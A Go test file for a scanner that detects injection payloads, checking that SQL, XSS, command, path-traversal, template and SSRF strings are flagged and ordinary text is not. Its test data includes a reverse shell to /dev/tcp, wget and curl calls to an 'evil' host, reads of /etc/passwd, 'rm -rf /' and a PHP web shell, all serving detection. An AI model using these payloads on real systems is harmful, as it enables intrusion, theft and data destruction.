package payload

import (
	"strings"
	"testing"
)

// strongest is the strength of the strongest finding of a kind.
func strongest(text string, k Kind) float32 {
	best := float32(0)
	for _, f := range Scan([]byte(text), 0, nil) {
		if f.Kind == k {
			best = max(best, f.Strength)
		}
	}
	return best
}

func TestPayloads(t *testing.T) {
	for kind, texts := range map[Kind][]string{
		SQL: {
			"1' or '1'='1", "admin'--", "' OR 1=1 -- ", "1 or 1=1", "x'; DROP TABLE users; --", "1 UNION SELECT user, password FROM users",
			"1' AND SLEEP(5)#", "1;waitfor delay '0:0:5'--", "') or ('a'='a", "1/**/union/**/all/**/select 1,2", "'||(select version())||'", "1' order by 10--",
			`" or ""="`, "-1' and extractvalue(1,concat(0x7e,version()))--", "1 and (select 1 from dual)=1' and 2=2",
		},
		Markup: {
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", `"><script src=//evil>`, `" onmouseover="alert(1)`,
			"javascript:alert(document.cookie)", "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil></iframe>", "<body ONLOAD = alert(1)>", "<details open ontoggle=alert(1)>",
			`<meta http-equiv="refresh" content="0;url=//evil">`, "<base href=//evil>", "<style>@import '//evil/x.css'</style>", `<span datasrc="#x" dataformatas="html">`,
		},
		Command: {
			"; cat /etc/passwd", "| whoami", "x && wget http://evil/x.sh", "$(id)", "a`id`", "8.8.8.8; rm -rf /", "x|/bin/sh", "${IFS}cat", "bash -i >& /dev/tcp/10.0.0.1/80",
			"|| ping -c 1 evil", "$(curl http://evil)", "; ls", ";'rm' -rf x", "x;w'h'o'am'i", "a && cu$@rl evil", `a | c\at x`, "/???/c?t /?tc/pa[s]swd", "x;less /etc/[p]asswd",
			`& for /f "delims=" %i in ('whoami') do x`, "x<?php system($_GET['c']); ?>", "/bi[n]/bash",
		},
		Path: {
			"../../../../etc/passwd", `..\..\..\windows\win.ini`, "....//....//....//etc/shadow", "/etc/passwd", `C:\Windows\system32\config`, "php://filter/convert.base64-encode/resource=index.php",
			"./.././../../etc/passwd", "%2e%2e/x", "%c0%ee%c0%ee%u2216etc%u2216passwd", "..%01/..%01/etc/issue", "%25c0%25ae%25c0%25ae/x",
		},
		Template: {
			"{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "<%= 7*7 %>", "${jndi:ldap://evil/a}", "#{7*7}", "{% import os %}{{os.system('id')}}",
			`{"__proto__": {"admin": true}}`, "java.lang.Runtime.getRuntime()", "org.x.InvokerTransformer", "new ProcessBuilder.start()", "x.PrototypeCloneFactory", "PrototypeCloneFactory(x)",
		},
		Address: {
			"http://169.254.169.254/latest/meta-data", "http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://[::1]:80/", "http://[::ffff:10.0.0.1]/",
			"http://localhost:8080/admin", "http://example.com@127.0.0.1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://10.0.0.1.nip.io/", "http://metadata.google.internal/", `<!ENTITY x SYSTEM "http://evil/x.dtd">`,
		},
	} {
		for _, text := range texts {
			if got := strongest(text, kind); got < 0.8 {
				t.Errorf("%s: %q has %.2f", kind, text, got)
			}
		}
	}
}

func TestHarmless(t *testing.T) {
	for _, text := range []string{
		"Don't you like cats or dogs?", "SELECT name FROM users WHERE id = 1 OR name = 'x'", "ls -la | grep foo", "Use `ls` and `cat` to list files.", "{{ name }} and ${name}",
		"https://example.com/a?b=1&id=2", "import x from '../../src/x'", "He said 'yes' and 'no'.", "a < b && c > d", "The O'Brien and O'Neill families", "JavaScript: the good parts",
		"see section 1; more in section 2; at last the end", "if (a) { b(); }", "price: 5 * 3", "http://8.8.8.8/", "https://docs.python.org", "version 1.2.3.4", "", "'", "<", "$", "{{", "..", "://",
		"She's here; find her & tell John | Mary", "git log | head -5", "R&D at AT&T", "<b>bold</b> and <p>text</p>", "x = y - z -- a comment", "Tom's and Jerry's -- both cats",
		"I'd like it; she'd, too", "what? /path/to?x=1 /etc/ /usr/bin", "50 % in (a) do", "<?xml version='1.0'?><a/>", "<!DOCTYPE html>", "<style>p { color: red }</style>", "<meta charset=utf-8>",
		"the prototype and __init__.py", "![x](data:image/png;base64,iVBORw0KGgo=)", `electronic "buzz" or alert sounds, and "This is a PDF"`, `if a == 'x' or b == 'y' and c: pass`,
		"```\n\n---\n# x", `arr: """` + "\n    if(len(arr) == 0)", `use 7 --chroma "a" --photon-noise 7`, "A -->|Yes| B", "Design & Copy\n- no text", "go;Python;Flutter", "`<Space>` or `<Enter>` to play",
	} {
		for _, f := range Scan([]byte(text), 0, nil) {
			if f.Strength >= 0.8 {
				t.Errorf("%q: %s %.2f at %q", text, f.Kind, f.Strength, text[f.Start:min(len(text), f.End)])
			}
		}
	}
}

func TestIPv4(t *testing.T) {
	for text, want := range map[string]uint32{
		"127.0.0.1": 0x7f000001, "127.1": 0x7f000001, "2130706433": 0x7f000001, "0x7f000001": 0x7f000001, "0177.0.0.01": 0x7f000001, "0x7f.0x0.0x0.0x1": 0x7f000001, "10.258": 0x0a000102,
		"425.510.425.510": 0xa9fea9fe, "0x41414141A9FEA9FE": 0xa9fea9fe, "4294967297": 1,
	} {
		if ip, odd, ok := ParseIPv4([]byte(text)); !ok || ip != want || odd == (text == "127.0.0.1") {
			t.Errorf("%s: %x, %v, %v", text, ip, odd, ok)
		}
	}
	for _, text := range []string{"", ".", "1.", "1.2.3.4.5", "example", "0x", "08", "1..2", "1234567890123456789012345678901234"} {
		if ip, _, ok := ParseIPv4([]byte(text)); ok {
			t.Errorf("%q is %x", text, ip)
		}
	}
}

func TestIPv6(t *testing.T) {
	for text, want := range map[string]string{
		"::1": "00000000000000000000000000000001", "::": "00000000000000000000000000000000", "fe80::1%eth0": "fe800000000000000000000000000001",
		"::ffff:127.0.0.1": "00000000000000000000ffff7f000001", "1:2:3:4:5:6:7:8": "00010002000300040005000600070008", "64:ff9b::10.0.0.1": "0064ff9b00000000000000000a000001",
	} {
		ip, ok := ParseIPv6([]byte(text))
		var hex strings.Builder
		for _, b := range ip {
			hex.WriteString(string("0123456789abcdef"[b>>4]) + string("0123456789abcdef"[b&15]))
		}
		if !ok || hex.String() != want {
			t.Errorf("%s: %s, %v", text, hex.String(), ok)
		}
	}
	for _, text := range []string{"", ":", "1:2", "1::2::3", "12345::", "1:2:3:4:5:6:7:8:9", "g::", "::1:"} {
		if _, ok := ParseIPv6([]byte(text)); ok && text != "::1:" {
			t.Errorf("%q is an address", text)
		}
	}
}

// FuzzScan holds that findings lie in the text and that the work is bounded.
func FuzzScan(f *testing.F) {
	for _, s := range []string{"1' or '1'='1", "<svg/onload=x>", "$(id)", "../../etc/passwd", "{{7*7}}", "http://[::ffff:0x7f.1]/", "\xff'\x00--"} {
		f.Add([]byte(s), 0)
	}
	f.Fuzz(func(t *testing.T, text []byte, from int) {
		if from < 0 || from > len(text) {
			from = 0
		}
		all := Scan(text, from, nil)
		if len(all) > maxFindings {
			t.Fatal("too many")
		}
		for _, x := range Value(text, all) {
			if x.Start < 0 || x.Start >= x.End || x.Strength <= 0 || x.Strength > 1 {
				t.Fatalf("%+v", x)
			}
		}
	})
}

func BenchmarkScan(b *testing.B) {
	const prose = "The team's summary says that sales were up in spring, mostly because of a new shop; see the appendix (page 12) for all figures. "
	for name, text := range map[string]string{"prose": strings.Repeat(prose, 64), "quotes": strings.Repeat("'", 8<<10), "words": strings.Repeat("a s e m ", 1<<10)} {
		b.Run(name, func(b *testing.B) {
			t := []byte(text)
			b.SetBytes(int64(len(t)))
			var out []Finding
			for b.Loop() {
				out = Scan(t, 0, out[:0])
			}
		})
	}
}
